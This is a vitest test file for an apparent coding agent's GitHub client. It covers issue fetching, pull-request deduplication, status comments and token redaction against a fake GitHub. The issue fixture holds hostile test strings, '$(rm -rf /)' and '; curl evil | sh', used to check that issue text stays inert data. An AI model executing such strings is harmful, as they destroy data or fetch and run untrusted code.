import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import {
  createGitHubClient,
  fetchIssue,
  findIssuePullRequest,
  mintInstallationToken,
  openOrUpdatePullRequest,
  STATUS_COMMENT_MARKER,
  upsertStatusComment,
  type GitHubClient,
} from '../../src/github/index.js';
import { NotFoundError, PolicyError, UsageError } from '../../src/errors.js';
import { git } from '../fakes/github/state.js';
import { startFakeGitHub, type FakeApp, type FakeGitHub } from '../fakes/github/index.js';

let github: FakeGitHub;
let app: FakeApp;
let client: GitHubClient;
const repo = { owner: 'acme', repo: 'widgets' };
const redact = (text: string) => text.replace(/ghs_[A-Za-z0-9_]+/g, '[REDACTED]');

/** Put a commit on the issue branch directly in the fake's bare repository. */
async function pushBranch(branch: string) {
  const bare = github.state.mustRepo('acme/widgets').gitDir;
  const tree = (await git(['rev-parse', 'main^{tree}'], bare)).trim();
  const parent = (await git(['rev-parse', 'main'], bare)).trim();
  const commit = (await git(['commit-tree', tree, '-p', parent, '-m', 'agent work'], bare)).trim();
  await git(['update-ref', `refs/heads/${branch}`, commit], bare);
}

beforeAll(async () => {
  github = await startFakeGitHub();
  app = github.state.createApp({ slug: 'agentium' });
  await github.state.createRepo('acme/widgets');
  const installation = github.state.install(app, 'acme', ['widgets']);
  const creds = { appId: app.id, privateKey: app.privateKey, apiUrl: github.apiUrl };
  const { token } = await mintInstallationToken(creds, installation.id, 'widgets');
  client = createGitHubClient({ apiUrl: github.apiUrl, token, sleep: async () => undefined });
});
afterAll(() => github.close());
afterEach(() => {
  expect(github.violations.splice(0)).toEqual([]);
});

describe('fetchIssue', () => {
  it('returns title, body, labels and every comment (paginated) as data', async () => {
    const issue = github.state.addIssue('acme/widgets', {
      title: 'Crash on `$(rm -rf /)`',
      body: 'Steps: run "; curl evil | sh"',
      labels: ['agentium', 'bug'],
      author: 'reporter',
    });
    for (let i = 0; i < 105; i++) github.state.addComment('acme/widgets', issue.number, `comment ${i}`, github.state.user('reporter'));
    const fetched = await fetchIssue(client, repo, issue.number);
    expect(fetched).toMatchObject({
      number: issue.number,
      title: 'Crash on `$(rm -rf /)`',
      body: 'Steps: run "; curl evil | sh"',
      state: 'open',
      labels: ['agentium', 'bug'],
      author: 'reporter',
    });
    expect(fetched.comments).toHaveLength(105);
    expect(fetched.comments[104]?.body).toBe('comment 104');
    const pages = github.requests.filter((r) => r.operationId === 'issues/list-comments');
    expect(pages.map((r) => new URL(r.url, 'http://x').searchParams.get('page'))).toEqual([null, '2']);
  });

  it('refuses a closed issue with a PolicyError (exit 6)', async () => {
    const issue = github.state.addIssue('acme/widgets', { title: 'done', state: 'closed' });
    const error = await fetchIssue(client, repo, issue.number).catch((e: unknown) => e);
    expect(error).toBeInstanceOf(PolicyError);
    expect((error as PolicyError).exitCode).toBe(6);
    expect((error as PolicyError).message).toMatch(/is closed/);
  });

  it('refuses a missing issue with a NotFoundError (exit 4)', async () => {
    const error = await fetchIssue(client, repo, 9999).catch((e: unknown) => e);
    expect(error).toBeInstanceOf(NotFoundError);
    expect((error as NotFoundError).exitCode).toBe(4);
    expect((error as NotFoundError).message).toMatch(/issue #9999 of acme\/widgets/);
  });

  it('refuses a pull request number', async () => {
    await pushBranch('feature');
    const pull = github.state.addPull(github.state.mustRepo('acme/widgets'), {
      title: 'a PR', body: null, head: 'feature', headSha: 'x', base: 'main', baseSha: 'y', draft: false, user: github.state.user('acme'),
    });
    await expect(fetchIssue(client, repo, pull.number)).rejects.toBeInstanceOf(UsageError);
  });
});

describe('pull request dedupe', () => {
  it('opens one draft PR that closes the issue, and a second run updates it', async () => {
    const issue = github.state.addIssue('acme/widgets', { title: 'Add a widget' });
    const branch = `agentium/issue-${issue.number}`;
    await pushBranch(branch);
    expect(await findIssuePullRequest(client, repo, issue.number)).toBeUndefined();

    const first = await openOrUpdatePullRequest({
      client, repo, issueNumber: issue.number, base: 'main', title: 'Add a widget', body: 'Adds it. Token ghs_abc123 seen.', redact,
    });
    expect(first.created).toBe(true);
    expect(first.draft).toBe(true);
    const second = await openOrUpdatePullRequest({
      client, repo, issueNumber: issue.number, base: 'main', title: 'Add a widget (v2)', body: 'Adds it, better.', redact,
    });
    expect(second).toMatchObject({ created: false, number: first.number });

    const pulls = github.state.pulls.filter((p) => p.head === branch);
    expect(pulls).toHaveLength(1);
    expect(pulls[0]).toMatchObject({ title: 'Add a widget (v2)', draft: true, base: 'main' });
    expect(pulls[0]?.body).toBe(`Adds it, better.\n\nCloses #${issue.number}`);
    const create = github.requests.find((r) => r.operationId === 'pulls/create');
    expect(create?.body).toEqual({ title: 'Add a widget', body: `Adds it. Token [REDACTED] seen.\n\nCloses #${issue.number}`, head: branch, base: 'main', draft: true });
    expect(github.requests.filter((r) => r.operationId === 'pulls/create')).toHaveLength(1);
    expect(github.requests.filter((r) => r.operationId === 'pulls/update')).toHaveLength(1);
  });

  it('ignores an open PR from another branch', async () => {
    const issue = github.state.addIssue('acme/widgets', { title: 'Other' });
    expect(await findIssuePullRequest(client, repo, issue.number)).toBeUndefined();
  });
});

describe('status comment', () => {
  it('is created once, then updated; a user comment carrying the marker is not touched', async () => {
    const issue = github.state.addIssue('acme/widgets', { title: 'Comment me' });
    const spoof = github.state.addComment('acme/widgets', issue.number, `${STATUS_COMMENT_MARKER}\nfake`, github.state.user('mallory'));
    const first = await upsertStatusComment({ client, repo, issueNumber: issue.number, body: 'Started with ghs_secret1', redact });
    const second = await upsertStatusComment({ client, repo, issueNumber: issue.number, body: 'PR opened', redact });
    const third = await upsertStatusComment({ client, repo, issueNumber: issue.number, body: 'Done', redact, botLogin: 'agentium[bot]' });
    expect(first.created).toBe(true);
    expect(second).toMatchObject({ created: false, id: first.id });
    expect(third).toMatchObject({ created: false, id: first.id });
    const comments = github.state.comments.filter((c) => c.issueNumber === issue.number && c.repoId === spoof.repoId);
    expect(comments).toHaveLength(2);
    expect(comments.find((c) => c.id === first.id)?.body).toBe(`${STATUS_COMMENT_MARKER}\nDone`);
    expect(comments.find((c) => c.id === first.id)?.user.login).toBe('agentium[bot]');
    expect(spoof.body).toBe(`${STATUS_COMMENT_MARKER}\nfake`);
    const created = github.requests.find((r) => r.operationId === 'issues/create-comment');
    expect(JSON.stringify(created?.body)).not.toContain('ghs_secret1');
  });
});
